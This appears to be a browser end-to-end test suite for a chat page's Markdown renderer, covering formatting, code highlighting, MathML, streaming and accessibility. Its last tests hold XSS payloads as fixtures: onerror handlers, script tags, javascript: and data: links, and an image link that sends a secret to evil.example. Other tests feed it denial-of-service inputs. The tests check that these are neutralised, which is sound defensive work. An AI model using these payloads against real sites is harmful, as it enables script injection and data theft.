// @module-tag chromium
/**
 * How the chat page shows Markdown: what it becomes, that a growing text ends as a finished one, and that nothing in it
 * runs or holds up the page.
 */
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { loadAxe, objections } from './chat_page';
import { launchChromium, openPage, serve, type Served } from './harness';
import type { createMarkdown } from '../demo/chat/markdown/markdown';
import type { showText } from '../demo/chat/markdown/long_text';

interface Parts {
  parts: { createMarkdown: typeof createMarkdown; showText: typeof showText };
}

let server: Served;
let browser: Browser;
let page: Page;
beforeAll(async () => {
  server = await serve();
  browser = await launchChromium();
  page = await openPage(browser, server.origin, '/e2e/pages/chat_parts.html');
  await page.waitForFunction(() => 'parts' in window);
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
});
// a new one: a long text of the test before may still be growing in the old one
const clear = (): Promise<void> =>
  page.evaluate(() =>
    document
      .getElementById('target')
      ?.replaceWith(Object.assign(document.createElement('div'), { id: 'target', className: 'body' })),
  );
beforeEach(() => clear());

/** Shows a finished text. */
const show = (source: string): Promise<void> =>
  page.evaluate(
    (text) => (window as unknown as Parts).parts.createMarkdown(document.getElementById('target')!)(text, true),
    source,
  );
const html = (): Promise<string> => page.evaluate(() => document.getElementById('target')?.innerHTML ?? '');
const body = () => page.locator('#target');

const SAMPLE = [
  'A line with **bold**, *italic*, ~~gone~~, `code` and a [link](https://example.org).',
  '## Steps',
  '1. First\n2. Second\n   - nested\n   - again\n3. Third',
  '- [x] done\n- [ ] to do',
  '> A quotation\n> of two lines',
  '| a | b |\n|---|--:|\n| 1 | 2 |\n| 3 | 4 |',
  '### Code',
  '```python\ndef f(x):\n    return x * 2  # twice\n```',
  'Then a formula, $a^2 + b^2 = c^2$, and one alone:',
  '$$\n\\int_0^1 x\\,dx = \\tfrac12\n$$',
  'Title\n=====',
  '---',
  'It costs $5 and $10.',
  '```\nunclosed',
].join('\n\n');

describe('what Markdown becomes', () => {
  test('lists, tasks, tables, quotations, links', async () => {
    await show(SAMPLE);
    expect(await body().locator('ol > li').count()).toBe(3);
    expect(await body().locator('ol ul > li').allInnerTexts()).toEqual(['nested', 'again']);
    expect(
      await body()
        .locator('li.task [role=img]')
        .evaluateAll((boxes) => boxes.map((box) => box.getAttribute('aria-label'))),
    ).toEqual(['done', 'to do']);
    expect(await body().locator('.table[tabindex="0"] td').allInnerTexts()).toEqual(['1', '2', '3', '4']);
    expect(await body().locator('blockquote').innerText()).toBe('A quotation\nof two lines');
    expect(
      await body()
        .locator('a')
        .evaluate((link) => [link.getAttribute('href'), link.getAttribute('rel'), link.getAttribute('target')]),
    ).toEqual(['https://example.org', 'noopener noreferrer', '_blank']);
    expect(await body().innerText()).toContain('It costs $5 and $10.');
  });

  test('headings stand below the message’s own, and skip no level', async () => {
    await show('### A\n\n##### B\n\n## C\n\n### D');
    expect(
      await body()
        .locator(':is(h1, h2, h3, h4, h5, h6)')
        .evaluateAll((all) => all.map((one) => `${one.tagName} ${one.className} ${one.textContent}`)),
    ).toEqual(['H3 depth-3 A', 'H4 depth-5 B', 'H3 depth-2 C', 'H3 depth-3 D']);
    const sizes = await body()
      .locator(':is(h3, h4)')
      .evaluateAll((all) => all.map((one) => Number.parseFloat(getComputedStyle(one).fontSize)));
    expect(sizes[2]).toBeGreaterThan(sizes[0]);
    expect(sizes[0]).toBeGreaterThan(sizes[1]);
  });

  test('code: its language, colours, and a button that copies it', async () => {
    await show('```py\nprint("hello")\n```\n\n```nosuch\nx\n```\n\n```\n<b>plain</b>\n```');
    await page.waitForSelector('.hljs-string');
    expect(await body().locator('figcaption span').allInnerTexts()).toEqual(['Python', 'nosuch', 'Text']);
    expect(await body().locator('.hljs-string').innerText()).toBe('"hello"');
    expect(await body().locator('pre').last().innerText()).toContain('<b>plain</b>');
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await body().getByRole('button', { name: 'Copy this code' }).first().click();
    expect((await page.evaluate(() => navigator.clipboard.readText())).trim()).toBe('print("hello")');
    await page.waitForSelector('#announcer:text("Copied.")', { state: 'attached' });
  });

  test('formulas become MathML; what is no TeX stays as it is', async () => {
    await show('$x^2$ and \\(y\\)\n\n\\[ \\frac{1}{2} \\]\n\n$\\nosuchcommand{$');
    await page.waitForSelector('math[display=block]');
    expect(await body().locator('math').count()).toBe(3);
    expect(await body().locator('mfrac').count()).toBe(1);
    expect(await body().locator('.tex-source').innerText()).toBe('\\nosuchcommand{');
  });

  test('each block takes the direction of its text', async () => {
    await show('English\n\nمرحبا بالعالم\n\n- שלום');
    const sides = await body()
      .locator(':is(p, ul)')
      .evaluateAll((all) => all.map((one) => getComputedStyle(one).direction));
    expect(sides).toEqual(['ltr', 'rtl', 'rtl']);
  });

  test('an accessibility checker objects to nothing, light or dark', async () => {
    await show(SAMPLE);
    await page.waitForSelector('math[display=block]');
    await page.waitForSelector('.hljs-keyword');
    await loadAxe(page);
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme });
      expect(await objections(page)).toEqual([]);
    }
    await page.emulateMedia({ colorScheme: null });
  });
});

describe('a text that grows', () => {
  test('ends as the finished text is, wherever it was cut', async () => {
    await show(SAMPLE);
    await page.waitForSelector('math[display=block]');
    await page.waitForSelector('.hljs-keyword');
    const whole = await html();
    for (const size of [1, 3, 7, 50]) {
      await page.evaluate(
        async ({ source, size }) => {
          const target = document.createElement('div');
          document.getElementById('target')?.replaceChildren();
          document.getElementById('target')?.replaceWith(Object.assign(target, { id: 'target', className: 'body' }));
          const write = (window as unknown as Parts).parts.createMarkdown(target);
          for (let end = size; end < source.length; end += size) {
            write(source.slice(0, end));
            if (end % 10 === 0) await new Promise(requestAnimationFrame);
          }
          write(source, true);
        },
        { source: SAMPLE, size },
      );
      await page.waitForFunction(() => !document.querySelector('code[class^=math-]'));
      expect(await html(), `in pieces of ${size}`).toBe(whole);
    }
  });

  test('keeps the blocks that are done, and the code that grows', async () => {
    const kept = await page.evaluate(async () => {
      const target = document.getElementById('target')!;
      const write = (window as unknown as Parts).parts.createMarkdown(target);
      const source = 'One.\n\nTwo.\n\nThree.\n\n```js\nlet a = 1;\nlet b = 2;\nlet c = 3;\n```\n\nEnd.';
      const nodes = new Map<string, Element>();
      const changed: string[] = [];
      for (let end = 1; end <= source.length; end++) {
        write(source.slice(0, end), end === source.length);
        await new Promise((resolve) => setTimeout(resolve, 5));
        for (const [text, node] of nodes) if (!node.isConnected) changed.push(text);
        for (const text of ['One.', 'Two.', 'Three.']) {
          const node = [...target.querySelectorAll('p')].find((p) => p.textContent === text);
          if (node && !nodes.has(text)) nodes.set(text, node);
        }
        const figure = target.querySelector('figure[aria-label="Code: JavaScript"]');
        if (figure && !nodes.has('code')) nodes.set('code', figure);
      }
      return { changed, seen: [...nodes.keys()] };
    });
    expect(kept.changed).toEqual([]);
    expect(kept.seen).toEqual(['One.', 'Two.', 'Three.', 'code']);
  });
});

/** Other processes can hold up any page: the best of three counts. */
async function stillness(source: string, settle = 600): Promise<number> {
  let best = Infinity;
  for (let attempt = 0; attempt < 3 && best > MOST_STILL; attempt++) {
    await clear();
    best = Math.min(best, await measured(source, settle));
  }
  return best;
}
/** many times what an idle machine takes; a text that takes quadratic time takes minutes */
const MOST_STILL = 1500;

/** The longest time that the page stood still in, in ms, while it showed a text for a while. */
const measured = (source: string, settle: number): Promise<number> =>
  page.evaluate(
    async ({ source, settle }) => {
      let longest = 0;
      let last = performance.now();
      const tick = setInterval(() => {
        longest = Math.max(longest, performance.now() - last);
        last = performance.now();
      }, 5);
      const text = source.startsWith('repeat:')
        ? (source.split(':', 3)[2] ?? '').replaceAll('\\n', '\n').repeat(Number(source.split(':', 2)[1]))
        : source;
      (window as unknown as Parts).parts.createMarkdown(document.getElementById('target')!)(text, true);
      await new Promise((resolve) => setTimeout(resolve, settle));
      clearInterval(tick);
      return longest;
    },
    { source, settle },
  );

describe('hostile texts', () => {
  test.each([
    ['10,000 newlines', `a${'\n'.repeat(10_000)}b`],
    ['a tower of quotations', '> '.repeat(5000)],
    ['a tower of lists', '- '.repeat(5000)],
    ['brackets', '['.repeat(20_000)],
    ['pictures', '!['.repeat(10_000)],
    ['stars', '*a **b '.repeat(4000)],
    ['underscores', '_'.repeat(20_000)],
    ['back quotes', '`a``b```'.repeat(3000)],
    ['dollars', '$a '.repeat(8000)],
    ['round formulas', '\\('.repeat(8000)],
    ['pipes', `${'|a'.repeat(4000)}\n${'|-'.repeat(4000)}\n`],
    ['tags', '<a '.repeat(8000)],
    ['addresses', `${'[a]: b\n'.repeat(8000)}end`],
    ['entities', '&#x41;&amp;'.repeat(4000)],
    ['one word', 'x'.repeat(300_000)],
    ['one long list', Array.from({ length: 5000 }, (_, i) => `${i}. item *${i}*`).join('\n')],
    ['a long code', `\`\`\`js\n${'let x = [1, 2, 3];\n'.repeat(5000)}`],
    ['a macro that calls itself', '$\\def\\a{\\a\\a}\\a$'],
    ['deep braces', `$${'{'.repeat(1500)}x${'}'.repeat(1500)}$`],
  ])('%s', async (_, source) => {
    expect(await stillness(source)).toBeLessThan(MOST_STILL);
    await page.waitForFunction(() => document.getElementById('target')?.textContent);
  });

  test('200 MB are shown in parts', async () => {
    expect(
      await stillness('repeat:4500000:## Title\\n\\nWords and *more* words\\n\\n- one\\n- two\\n\\n', 4000),
    ).toBeLessThan(MOST_STILL);
    const more = body().getByRole('button', { name: /^Show more \(2\d\d\sMB are left\)$/ });
    await more.waitFor({ timeout: 120_000 });
    const before = await body().locator('h3').count();
    expect(before).toBeGreaterThan(500);
    await more.click();
    await page.waitForFunction((n) => document.querySelectorAll('#target h3').length > 1.5 * n, before, {
      timeout: 120_000,
    });
  });

  test('a plain text of 20 MB is shown in parts', async () => {
    await page.evaluate(() =>
      (window as unknown as Parts).parts.showText(document.getElementById('target')!, 'word '.repeat(4_000_000)),
    );
    expect(await page.evaluate(() => document.getElementById('target')?.textContent?.length)).toBeLessThan(101_000);
    await body()
      .getByRole('button', { name: /^Show more/ })
      .click();
    expect(await page.evaluate(() => document.getElementById('target')?.textContent?.length)).toBeGreaterThan(199_000);
  });

  test('nothing runs, nothing is fetched, and no class or style of the page is taken', async () => {
    const strangers: string[] = [];
    const listen = (request: { url(): string }): unknown =>
      request.url().includes('evil.example') && strangers.push(request.url());
    page.on('request', listen);
    await show(
      [
        '<img src="https://evil.example/x" onerror="window.hit = 1"><script>window.hit = 1</script>',
        '![secret](https://evil.example/?q=secret) [click](javascript:window.hit=1) [data](data:text/html,<script>window.hit=1</script>)',
        '<style>body{display:none}</style><span class="math-display" style="position:fixed">x</span>',
        '```"><img src=x onerror=window.hit=1>\n</code></pre><script>window.hit=1</script>\n```',
        '```js\nconst a = "<img src=x onerror=window.hit=1>";\n```',
        '$\\href{javascript:window.hit=1}{x}$ $\\url{https://evil.example}$ $\\includegraphics{https://evil.example/y.png}$ $\\style{position:fixed}{x}$ $\\class{skip}{x}$',
        '$\\text{<img src=x onerror=window.hit=1>}$ $\\color{url(https://evil.example)}x$',
        '| <img src=x onerror=window.hit=1> |\n|---|\n| [a](vbscript:x) |',
        '[ref]: javascript:window.hit=1\n\n[ref] and <javascript:window.hit=1>',
      ].join('\n\n'),
    );
    await page.waitForSelector('.hljs-string');
    await page.waitForFunction(() => !document.querySelector('code[class^=math-]'));
    expect(await page.evaluate(() => 'hit' in window)).toBe(false);
    expect(
      await body()
        .locator('img, script, style, iframe, form, input, object, [onerror], [style*=position], .skip')
        .count(),
    ).toBe(0);
    expect(
      await body()
        .locator('a[href]')
        .evaluateAll((links) =>
          links.map((link) => link.getAttribute('href')).filter((href) => !/^https?:/.test(href ?? '')),
        ),
    ).toEqual([]);
    expect(await body().locator('math [href], math a').count()).toBe(0);
    page.off('request', listen);
    expect(strangers).toEqual([]);
  });
});
